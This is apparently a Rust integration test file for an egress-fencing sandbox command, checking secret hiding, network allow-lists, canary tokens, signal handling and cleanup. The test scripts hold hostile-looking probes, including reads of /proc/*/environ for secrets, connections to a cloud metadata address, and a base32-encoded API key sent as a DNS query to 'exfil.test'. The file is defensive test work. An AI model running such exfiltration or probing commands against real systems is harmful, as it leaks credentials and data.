//! `egress-fence exec` (issue 12): one command in a fenced namespace of its own. Every run is
//! inside a world's sandbox namespace (`--netns`): there exec makes its namespace, and pasta
//! connects it to the sandbox's network, which plays the host's.

mod common;

use std::process::{Command, Stdio};
use std::time::Duration;

use common::exec::*;
use common::*;

#[test]
fn a_secret_in_the_callers_environment_is_not_visible_and_the_exit_code_passes_through() {
    let w = World::new();
    let policy = setup(&w);
    let out = exec_command(
        &w,
        &policy,
        &["--keep-env", "KEPT_VAR"],
        "echo \"secret=${SECRET_TOKEN:-none} kept=${KEPT_VAR:-none}\"; grep -l hunter2 /proc/[0-9]*/environ 2>/dev/null | sed 's/^/readable: /'; grep -E '^Cap(Eff|Prm|Bnd|Amb)' /proc/self/status; exit 7",
    )
    .env("SECRET_TOKEN", "hunter2")
    .env("KEPT_VAR", "yes")
    .output()
    .expect("run egress-fence exec");
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert_eq!(out.status.code(), Some(7), "{}", show(&out));
    assert!(stdout.contains("secret=none kept=yes"), "{}", show(&out));
    assert!(
        !stdout.contains("readable:"),
        "CMD can read an environment holding the secret\n{}",
        show(&out)
    );
    for line in stdout.lines().filter(|l| l.starts_with("Cap")) {
        assert!(
            line.ends_with("0000000000000000"),
            "CMD holds a capability: {line}\n{}",
            show(&out)
        );
    }
    assert_eq!(
        stdout.lines().filter(|l| l.starts_with("Cap")).count(),
        4,
        "{}",
        show(&out)
    );
}

/// What CMD does to test the fence from inside: each line says `<what>-ok` or
/// `<what>-refused`.
const PROBES: &str = "
probe() { what=$1; shift; if timeout 6 \"$@\" >/dev/null 2>&1; then echo \"$what-ok\"; else echo \"$what-refused\"; fi; }
probe resolve getent hosts registry.example.test
probe allowed nc -z -w 2 registry.example.test 8080
probe other-port nc -z -w 2 192.0.2.10 9090
probe other-host nc -z -w 2 192.0.2.11 8080
probe metadata nc -z -w 2 169.254.169.254 80
probe rogue-resolver dig +time=1 +tries=1 @192.0.2.54 registry.example.test
probe outside-name getent hosts outside.example.test
";

#[test]
fn only_the_allowed_name_and_port_are_reached() {
    let w = World::new();
    let policy = setup(&w);
    w.dns_set("outside.example.test", &[HOST2_V4], 60);
    let allowed = w.listen_tcp(HOST_V4, PORT);
    let other_port = w.listen_tcp(HOST_V4, OTHER_PORT);
    let other_host = w.listen_tcp(HOST2_V4, PORT);
    let metadata = w.listen_tcp(METADATA_V4, 80);
    let report = w.dir().join("report.json");
    let out = exec(
        &w,
        &policy,
        &["--report", report.to_str().expect("utf-8 path")],
        PROBES,
    );
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert_eq!(out.status.code(), Some(0), "{}", show(&out));
    for expected in [
        "resolve-ok",
        "allowed-ok",
        "other-port-refused",
        "other-host-refused",
        "metadata-refused",
        "rogue-resolver-refused",
        "outside-name-refused",
    ] {
        assert!(
            stdout.lines().any(|l| l == expected),
            "{expected}\n{}",
            show(&out)
        );
    }
    assert!(allowed.count() >= 1, "{}", show(&out));
    assert_eq!(other_port.count(), 0, "{}", show(&out));
    assert_eq!(other_host.count(), 0, "{}", show(&out));
    assert_eq!(metadata.count(), 0, "{}", show(&out));
    // What was refused is said at exit, and written as JSON.
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.contains("the fence refused"), "{}", show(&out));
    assert!(stderr.contains("outside.example.test"), "{}", show(&out));
    let report: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(&report).expect("the report")).expect("JSON");
    assert_eq!(report["exit_code"], 0, "{report}");
    let refused = &report["refused"];
    let dports: Vec<u64> = refused["first_connections"]
        .as_array()
        .expect("a list")
        .iter()
        .filter_map(|e| e["dport"].as_u64())
        .collect();
    for port in [OTHER_PORT as u64, 80, 53] {
        assert!(dports.contains(&port), "port {port} not reported: {report}");
    }
    assert!(refused["connections"].as_u64() >= Some(4), "{report}");
    assert!(
        refused["names"]
            .as_array()
            .expect("a list")
            .iter()
            .any(|n| n == "outside.example.test"),
        "{report}"
    );
    let asked = w.dns_queries();
    assert!(
        !asked
            .iter()
            .any(|n| n.to_ascii_lowercase().contains("outside")),
        "the guard forwarded a name outside the policy: {asked:?}"
    );
}

#[test]
fn a_signal_death_is_128_plus_the_signal_and_a_missing_command_is_127() {
    let w = World::new();
    let policy = setup(&w);
    let out = exec(&w, &policy, &[], "kill -TERM $$");
    assert_eq!(out.status.code(), Some(128 + 15), "{}", show(&out));
    let mut cmd = Command::new(EGRESS_FENCE_BIN);
    cmd.args([
        "exec",
        "--netns",
        w.sandbox_name(),
        "--policy",
        &policy,
        "--user",
        "root",
    ])
    .args(["--", "no-such-command-egress-fence"])
    .env("EGRESS_FENCE_STATE_DIR", w.state_dir());
    let out = cmd.output().expect("run egress-fence exec");
    assert_eq!(out.status.code(), Some(127), "{}", show(&out));
}

#[test]
fn a_resolve_mode_policy_is_refused_and_nothing_runs() {
    let w = World::new();
    let path = w.write_file(
        "resolve.yaml",
        &format!("version: 1\nallow:\n  - domain: \"{ALLOWED}\"\n    ports: [{PORT}]\n"),
    );
    let marker = w.dir().join("ran");
    let out = exec(
        &w,
        path.to_str().expect("utf-8 path"),
        &[],
        &format!("touch {}", marker.display()),
    );
    assert_eq!(out.status.code(), Some(2), "{}", show(&out));
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("dns.mode: guard"),
        "{}",
        show(&out)
    );
    assert!(!marker.exists(), "CMD ran without a fence");
}

/// The canary: a token asked as a DNS name (base32, split across labels) is refused by the
/// guard and trips the canary (exit 99, whatever CMD's code), never reaching the resolver; a
/// run that does not leak it keeps CMD's code.
#[test]
fn a_canary_asked_as_a_dns_name_is_refused_and_trips() {
    let w = World::new();
    let policy = setup(&w);
    let file = w.dir().join("canary.env");
    let report = w.dir().join("canary.json");
    let leak = "test \"$(cat canary.env)\" = \"$(printf 'CANARY_API_KEY=%s\\nCANARY_WEBHOOK_URL=%s' \"$CANARY_API_KEY\" \"$CANARY_WEBHOOK_URL\")\" && echo file-ok; \\
        name=$(python3 -c 'import base64,os; e=base64.b32encode(os.environ[\"CANARY_API_KEY\"].encode()).decode().rstrip(\"=\"); print(e[:32]+\".\"+e[32:])'); \
        dig +time=1 +tries=1 \"$name.exfil.test\" >/dev/null; exit 4";
    let mut cmd = exec_command(
        &w,
        &policy,
        &[
            "--canary",
            "--canary-file",
            "canary.env",
            "--report",
            report.to_str().expect("utf-8 path"),
        ],
        leak,
    );
    cmd.current_dir(w.dir());
    let out = cmd.output().expect("run egress-fence exec");
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert_eq!(out.status.code(), Some(99), "{}", show(&out));
    assert!(stdout.contains("file-ok"), "{}", show(&out));
    assert!(!file.exists(), "the canary file is left");
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("CANARY TRIPPED"),
        "{}",
        show(&out)
    );
    let json: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(&report).expect("report")).expect("JSON");
    assert_eq!(json["canary_tripped"], true, "{json}");
    assert_eq!(json["exit_code"], 4, "{json}");
    assert!(
        !w.dns_queries()
            .iter()
            .any(|n| n.to_ascii_lowercase().contains("exfil")),
        "the token reached the resolver"
    );

    // No leak: CMD's own code, and the canary said clean.
    let out = exec(
        &w,
        &policy,
        &["--canary"],
        "test -n \"$CANARY_API_KEY\" && exit 6",
    );
    assert_eq!(out.status.code(), Some(6), "{}", show(&out));
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("in no DNS question"),
        "{}",
        show(&out)
    );
}

/// A policy allowing a wildcard lets a question under it go upstream: the canary finds the
/// token in what left the namespace (pasta's capture) and trips.
#[test]
fn a_canary_sent_upstream_under_an_allowed_wildcard_trips() {
    let w = World::new();
    let text = policy_text().replace(
        "allow:\n",
        &format!("allow:\n  - domain: \"*.wild.test\"\n    ports: [{PORT}]\n"),
    );
    let policy = w.write_file("wild.yaml", &text);
    let out = exec(
        &w,
        policy.to_str().expect("utf-8 path"),
        &["--canary"],
        "dig +time=1 +tries=1 \"$CANARY_API_KEY.wild.test\" >/dev/null; exit 0",
    );
    assert_eq!(out.status.code(), Some(99), "{}", show(&out));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.contains("(SENT)"), "{}", show(&out));
}

/// What CMD does with the canary's URL: takes its host and asks for it, then tries port
/// [`OTHER_PORT`] of it (a connection needs an address: only an allowed host gets one).
const USE_CANARY_URL: &str = "host=${CANARY_WEBHOOK_URL#https://}; host=${host%%/*}; \
    echo \"host=$host\"; getent hosts \"$host\" >/dev/null; nc -z -w 2 \"$host\" 9090; exit 99";

/// The canary's URL names a fresh host under `canary.invalid`: asking for it is refused by
/// the guard and trips the canary (and CMD's own 99 is told apart from the canary's).
#[test]
fn a_question_for_the_canary_url_host_is_refused_and_trips() {
    let w = World::new();
    let policy = setup(&w);
    let report = w.dir().join("host.json");
    let out = exec(
        &w,
        &policy,
        &["--canary", "--report", report.to_str().expect("utf-8 path")],
        USE_CANARY_URL,
    );
    assert_eq!(out.status.code(), Some(99), "{}", show(&out));
    let stdout = String::from_utf8_lossy(&out.stdout);
    let host = stdout
        .lines()
        .find_map(|l| l.strip_prefix("host="))
        .expect("CMD printed the host")
        .to_string();
    assert!(
        host.starts_with("hooks-") && host.ends_with(".canary.invalid"),
        "{}",
        show(&out)
    );
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains(&format!("the canary's URL host {host} was asked")),
        "{}",
        show(&out)
    );
    assert!(
        stderr.contains("the canary tripped (CMD's own exit code was 99)"),
        "{}",
        show(&out)
    );
    let json: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(&report).expect("report")).expect("JSON");
    assert_eq!(json["canary_tripped"], true, "{json}");
    assert_eq!(json["exit_code"], 99, "{json}");
    let canary_host = &json["refused"]["canary_host"];
    assert_eq!(canary_host["host"], host.as_str(), "{json}");
    assert!(
        canary_host["url"]
            .as_str()
            .is_some_and(|u| u.starts_with(&format!("https://{host}/hook/ck_live_"))),
        "{json}"
    );
    let refused = canary_host["refused_questions"].as_array().expect("a list");
    assert!(
        refused
            .iter()
            .any(|n| n.as_str().is_some_and(|n| n.eq_ignore_ascii_case(&host))),
        "{json}"
    );
    assert!(
        !w.dns_queries()
            .iter()
            .any(|n| n.to_ascii_lowercase().contains("canary")),
        "the canary host reached the resolver"
    );

    // CMD's own 99 without a leak: the canary did not trip, and stderr says whose 99 it is.
    let out = exec(&w, &policy, &["--canary"], "exit 99");
    assert_eq!(out.status.code(), Some(99), "{}", show(&out));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains("exit 99 is CMD's own: the canary did not trip"),
        "{}",
        show(&out)
    );
    assert!(stderr.contains("was never asked"), "{}", show(&out));
}

/// `--canary-host` names a host the policy allows (on [`PORT`] only): its question goes
/// upstream and trips the canary, and the refused connection to another port of the address
/// it was answered with is listed under the canary host.
#[test]
fn an_allowed_canary_host_trips_and_its_refused_connections_are_listed() {
    let w = World::new();
    let text = policy_text().replace(
        "allow:\n",
        &format!("allow:\n  - domain: \"hooks.example.test\"\n    ports: [{PORT}]\n"),
    );
    let policy = w.write_file("hooks.yaml", &text);
    w.dns_set("hooks.example.test", &[HOST2_V4], 60);
    let listener = w.listen_tcp(HOST2_V4, OTHER_PORT);
    let report = w.dir().join("hooks.json");
    let out = exec(
        &w,
        policy.to_str().expect("utf-8 path"),
        &[
            "--canary",
            "--canary-host",
            "hooks.example.test",
            "--report",
            report.to_str().expect("utf-8 path"),
        ],
        &USE_CANARY_URL.replace("exit 99", "exit 3"),
    );
    assert_eq!(out.status.code(), Some(99), "{}", show(&out));
    assert_eq!(listener.count(), 0, "{}", show(&out));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains("the canary tripped (CMD's own exit code was 3)"),
        "{}",
        show(&out)
    );
    assert!(stderr.contains("(SENT)"), "{}", show(&out));
    let json: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(&report).expect("report")).expect("JSON");
    let canary_host = &json["refused"]["canary_host"];
    assert!(
        !canary_host["sent_questions"]
            .as_array()
            .expect("a list")
            .is_empty(),
        "{json}"
    );
    assert!(
        canary_host["addresses"]
            .as_array()
            .expect("a list")
            .iter()
            .any(|a| a == &HOST2_V4.to_string()),
        "{json}"
    );
    let refused = canary_host["refused_connections"]
        .as_array()
        .expect("a list");
    assert!(
        refused
            .iter()
            .any(|e| e["dst"] == HOST2_V4.to_string() && e["dport"] == OTHER_PORT),
        "{json}"
    );
}

/// Started by `ip netns exec SANDBOX` (a mount namespace of its own, the sandbox's resolv.conf
/// bound over /etc/resolv.conf) instead of `--netns`.
#[test]
fn it_works_under_ip_netns_exec() {
    let w = World::new();
    let policy = setup(&w);
    let allowed = w.listen_tcp(HOST_V4, PORT);
    let out = Command::new("timeout")
        .args(["-k", "5", "20", "ip", "netns", "exec", w.sandbox_name()])
        .args([
            EGRESS_FENCE_BIN,
            "exec",
            "--policy",
            &policy,
            "--user",
            "root",
            "--",
        ])
        .args([
            "sh",
            "-c",
            "nc -z -w 2 registry.example.test 8080 && echo allowed-ok",
        ])
        .env("EGRESS_FENCE_STATE_DIR", w.state_dir())
        .stdin(Stdio::null())
        .output()
        .expect("run egress-fence exec");
    assert!(
        String::from_utf8_lossy(&out.stdout).contains("allowed-ok"),
        "{}",
        show(&out)
    );
    assert!(allowed.count() >= 1, "{}", show(&out));
}

#[test]
fn without_a_log_group_it_runs_and_says_refusals_are_not_reported() {
    let w = World::new();
    w.dns_set(ALLOWED, &[HOST_V4], 60);
    let text = policy_text();
    let without_log = &text[..text.find("log:").expect("a log section")];
    let path = w.write_file("nolog.yaml", without_log);
    let out = exec(&w, path.to_str().expect("utf-8 path"), &[], "exit 5");
    assert_eq!(out.status.code(), Some(5), "{}", show(&out));
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("not reported"),
        "{}",
        show(&out)
    );
}

/// Every process whose command line contains `needle`.
fn pids_with(needle: &str) -> Vec<String> {
    let ps = Command::new("ps")
        .args(["-eo", "pid=,args="])
        .output()
        .expect("ps");
    String::from_utf8_lossy(&ps.stdout)
        .lines()
        .filter(|l| l.contains(needle) && !l.contains("ps -eo"))
        .map(|l| l.trim().to_string())
        .collect()
}

fn netns_names() -> String {
    let out = Command::new("ip")
        .args(["netns", "list"])
        .output()
        .expect("ip netns list");
    String::from_utf8_lossy(&out.stdout).into_owned()
}

fn sandbox_links(w: &World) -> String {
    let out = Command::new("ip")
        .args(["-n", w.sandbox_name(), "-o", "link"])
        .output()
        .expect("ip link");
    String::from_utf8_lossy(&out.stdout)
        .lines()
        .map(|l| l.split_whitespace().take(2).collect::<Vec<_>>().join(" "))
        .collect::<Vec<_>>()
        .join("\n")
}

#[test]
fn sigkill_of_exec_leaves_nothing_behind() {
    let w = World::new();
    let policy = setup(&w);
    let links_before = sandbox_links(&w);
    // A child of CMD too: the whole pid namespace must go.
    let marker = format!("sleep 3{}", std::process::id() % 1000);
    let mut running = Command::new(EGRESS_FENCE_BIN)
        .args([
            "exec",
            "--netns",
            w.sandbox_name(),
            "--policy",
            &policy,
            "--user",
            "root",
        ])
        .args(["--", "sh", "-c", &format!("{marker} & {marker}; wait")])
        .env("EGRESS_FENCE_STATE_DIR", w.state_dir())
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .expect("start egress-fence exec");
    let name = format!("ef-exec-{}", running.id());
    // The two sleeps themselves (exec's and the inside's command lines hold the marker too).
    let sleeps = || -> Vec<String> {
        pids_with(&marker)
            .into_iter()
            .filter_map(|l| {
                let (pid, args) = l.split_once(' ')?;
                (args.trim() == marker).then(|| pid.to_string())
            })
            .collect()
    };
    assert!(
        within(Duration::from_secs(10), || sleeps().len() >= 2),
        "CMD never ran"
    );
    let cmd_pid = sleeps()[0].clone();
    let netns = std::fs::read_link(format!("/proc/{cmd_pid}/ns/net")).expect("CMD's namespace");
    running.kill().expect("SIGKILL exec");
    let _ = running.wait();
    let lsns = || {
        let out = Command::new("lsns")
            .args(["-t", "net", "-o", "NS", "-n"])
            .output()
            .expect("lsns");
        String::from_utf8_lossy(&out.stdout).into_owned()
    };
    let inode = netns
        .to_string_lossy()
        .trim_start_matches("net:[")
        .trim_end_matches(']')
        .to_string();
    assert!(
        within(Duration::from_secs(5), || pids_with(&marker).is_empty()
            && pids_with(&name).is_empty()
            && !lsns().lines().any(|l| l.trim() == inode)),
        "left behind: processes {:?} {:?}, namespace {inode} listed: {}",
        pids_with(&marker),
        pids_with(&name),
        lsns().lines().any(|l| l.trim() == inode)
    );
    assert!(!netns_names().contains(&name), "{}", netns_names());
    assert_eq!(sandbox_links(&w), links_before, "the host's links changed");
    // The next run removes what the killed one could not (its run directory).
    let out = exec(&w, &policy, &[], "true");
    assert_eq!(out.status.code(), Some(0), "{}", show(&out));
    let run_dir = w.state_dir().join("exec").join(&name);
    assert!(!run_dir.exists(), "{} is still there", run_dir.display());
}

#[test]
fn sigterm_is_passed_to_cmd_and_user_drops_privileges() {
    use std::io::{BufRead, BufReader, Read};
    let w = World::new();
    let policy = setup(&w);
    // CMD traps SIGTERM and exits 42: the code says it got the signal (not a kill).
    let mut running = exec_command(
        &w,
        &policy,
        &["--user", "nobody"],
        "trap 'exit 42' TERM; echo \"uid=$(id -u)\"; echo ready; while :; do sleep 0.05; done",
    )
    .stdout(Stdio::piped())
    .stderr(Stdio::piped())
    .spawn()
    .expect("start egress-fence exec");
    let mut stdout = BufReader::new(running.stdout.take().expect("stdout"));
    let mut seen = String::new();
    while !seen.contains("ready\n") {
        if stdout.read_line(&mut seen).unwrap_or(0) == 0 {
            break;
        }
    }
    if !seen.contains("ready\n") {
        let _ = running.kill();
        let out = running.wait_with_output().expect("output");
        panic!("CMD never got ready: {seen}\n{}", show(&out));
    }
    assert!(seen.contains("uid=65534\n"), "not nobody: {seen}");
    // The exec process is the child of `timeout`.
    let out = Command::new("pgrep")
        .args(["-P", &running.id().to_string()])
        .output()
        .expect("pgrep");
    let exec_pid = String::from_utf8_lossy(&out.stdout).trim().to_string();
    Command::new("kill")
        .args(["-TERM", &exec_pid])
        .status()
        .expect("kill");
    let status = running.wait().expect("wait");
    let mut stderr = String::new();
    running
        .stderr
        .take()
        .expect("stderr")
        .read_to_string(&mut stderr)
        .expect("read stderr");
    assert_eq!(status.code(), Some(42), "{stderr}");
}

/// `egress-fence exec --policy p.yaml -- bwrap ...`: bubblewrap (unprivileged, in a user
/// namespace of its own) inside the fence, with the fence still in force.
#[test]
fn bwrap_composes_inside_the_fence() {
    if Command::new("bwrap").arg("--version").output().is_err() {
        eprintln!("bwrap is not installed (Debian: bubblewrap); skipped");
        return;
    }
    let w = World::new();
    let policy = setup(&w);
    let allowed = w.listen_tcp(HOST_V4, PORT);
    let other_port = w.listen_tcp(HOST_V4, OTHER_PORT);
    let script = "nc -z -w 2 registry.example.test 8080 && echo allowed-ok; \
                  nc -z -w 2 192.0.2.10 9090 || echo other-port-refused; \
                  echo \"secret=${SECRET_TOKEN:-none}\"; exit 3";
    let mut cmd = Command::new("timeout");
    cmd.args(["-k", "5", "20", EGRESS_FENCE_BIN, "exec"])
        // As a user: CMD as root holds no capability, and a user namespace that maps root
        // takes CAP_SETFCAP.
        .args([
            "--netns",
            w.sandbox_name(),
            "--policy",
            &policy,
            "--user",
            "nobody",
            "--",
        ])
        .args([
            "bwrap",
            "--ro-bind",
            "/",
            "/",
            "--dev",
            "/dev",
            "--proc",
            "/proc",
        ])
        // CMD is uid 0 without capabilities: bwrap must make a user namespace to get them.
        .args([
            "--unshare-user",
            "--unshare-pid",
            "--unshare-ipc",
            "--die-with-parent",
            "--",
        ])
        .args(["sh", "-c", script])
        .env("EGRESS_FENCE_STATE_DIR", w.state_dir())
        .env("SECRET_TOKEN", "hunter2")
        .stdin(Stdio::null());
    let out = cmd.output().expect("run egress-fence exec");
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert_eq!(out.status.code(), Some(3), "{}", show(&out));
    for line in ["allowed-ok", "other-port-refused", "secret=none"] {
        assert!(stdout.lines().any(|l| l == line), "{line}\n{}", show(&out));
    }
    assert!(allowed.count() >= 1, "{}", show(&out));
    assert_eq!(other_port.count(), 0, "{}", show(&out));
}
